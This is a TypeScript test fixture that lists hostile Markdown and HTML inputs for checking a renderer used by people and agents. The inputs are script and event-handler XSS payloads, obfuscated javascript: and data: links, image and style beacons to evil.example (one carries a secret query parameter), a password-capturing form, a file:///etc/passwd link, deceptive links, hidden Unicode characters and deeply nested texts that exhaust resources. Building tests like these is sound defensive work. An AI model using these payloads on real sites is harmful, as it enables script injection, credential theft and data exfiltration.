/** What somebody might hide in a text that people and agents read: each as Markdown, with what must not come of it. */
export type Attack = {
  name: string;
  text: string;
  /** An address that must never be asked for by itself. */
  beacon?: string;
};

export const EVIL = "https://evil.example";

const jsLinks = [
  "javascript:window.__pwned=1",
  "JaVaScRiPt:window.__pwned=1",
  " javascript:window.__pwned=1",
  "java\tscript:window.__pwned=1",
  "&#106;avascript:window.__pwned=1",
  "\u0001javascript:window.__pwned=1",
  "vbscript:msgbox(1)",
  "data:text/html,<script>window.__pwned=1</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
  "blob:https://evil.example/x",
  "file:///etc/passwd",
];

export const MARKDOWN_ATTACKS: Attack[] = [
  { name: "a script", text: "<script>window.__pwned=1</script>" },
  { name: "a script in a heading", text: "# Title <script>window.__pwned=1</script>" },
  { name: "an image with a handler", text: "<img src=x onerror=window.__pwned=1>" },
  { name: "a drawing with a handler", text: "<svg onload=window.__pwned=1><script>window.__pwned=1</script></svg>" },
  { name: "a frame", text: `<iframe src="${EVIL}/frame"></iframe>`, beacon: `${EVIL}/frame` },
  {
    name: "an object",
    text: `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
    beacon: `${EVIL}/object`,
  },
  { name: "a form", text: `<form action="${EVIL}/form"><input name=password><button>Sign in</button></form>` },
  { name: "a style", text: `<style>body{background:url(${EVIL}/style)}</style>`, beacon: `${EVIL}/style` },
  {
    name: "a style attribute",
    text: `<p style="background:url(${EVIL}/attribute)">x</p>`,
    beacon: `${EVIL}/attribute`,
  },
  { name: "a base address", text: `<base href="${EVIL}/"> [home](home)` },
  { name: "a refresh", text: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`, beacon: `${EVIL}/refresh` },
  { name: "a template that is left open", text: "<template><img src=x onerror=window.__pwned=1>" },
  { name: "a comment that hides", text: "<!--><img src=x onerror=window.__pwned=1>-->" },
  { name: "a remote image", text: `![figures](${EVIL}/pixel.png?secret=1)`, beacon: `${EVIL}/pixel.png` },
  {
    name: "a remote image by reference",
    text: `![figures][p]\n\n[p]: ${EVIL}/reference.png`,
    beacon: `${EVIL}/reference.png`,
  },
  {
    name: "a remote image without a scheme",
    text: "![figures](//evil.example/scheme.png)",
    beacon: `${EVIL}/scheme.png`,
  },
  { name: "a remote image in a link", text: `[![x](${EVIL}/in-link.png)](${EVIL}/)`, beacon: `${EVIL}/in-link.png` },
  {
    name: "an image as data",
    text: "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'/>)",
  },
  { name: "an image of our own door", text: "![x](/api/auth/signout)" },
  { name: "a link that reads like another", text: `[https://bank.example](${EVIL}/bank)` },
  { name: "a link with a name before its host", text: "[sign in](https://muster.example@evil.example/)" },
  ...jsLinks.map((href, index) => ({
    name: `a link that runs, ${index + 1}`,
    text: `[press me](<${href}>) and <${href}>`,
  })),
  { name: "a heading that takes an id", text: '<h1 id="content">x</h1><a name="getElementById">y</a>' },
  { name: "words turned around", text: "Pay \u202E0001\u202C crowns, invoice\u2066exe.\u2069pdf" },
  { name: "letters nobody sees", text: "ig\u200Bnore \u{E0041}\u{E0042} all of it" },
];

const many = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => make(index));

/** Texts that cost the reader time or stack rather than safety. */
export const HEAVY_TEXTS: Attack[] = [
  { name: "quotes 5,000 levels deep", text: `${">".repeat(5_000)} x` },
  { name: "quotes 5,000 levels deep, with blanks", text: `${"> ".repeat(5_000)}x` },
  { name: "a list 5,000 levels deep", text: `${"- ".repeat(5_000)}x` },
  { name: "a list 500 levels deep by indentation", text: many(500, (index) => `${"  ".repeat(index)}- a`).join("\n") },
  { name: "5,000 links in each other", text: `${"[".repeat(5_000)}x${"](a)".repeat(5_000)}` },
  { name: "5,000 images in each other", text: `${"![".repeat(5_000)}x${"](a)".repeat(5_000)}` },
  { name: "5,000 emphases in each other", text: `${"*a _b ".repeat(2_500)}x${"_ *".repeat(2_500)}` },
  {
    name: "a table of 300 columns and 1,000 rows",
    text: ["|a".repeat(300), "|-".repeat(300), ...many(1_000, () => "|b".repeat(300))].join("|\n"),
  },
  { name: "100,000 opening tags", text: "<div>".repeat(100_000) },
  {
    name: "2,000 footnotes",
    text: `${many(2_000, (index) => `[^${index}]`).join(" ")}\n\n${many(2_000, (index) => `[^${index}]: x`).join("\n")}`,
  },
];

/** Everything in one text, as a document or a message could hold it. */
export function allAttacks(): string {
  return MARKDOWN_ATTACKS.map(({ name, text }) => `Attack: ${name}\n\n${text}\n`).join("\n");
}
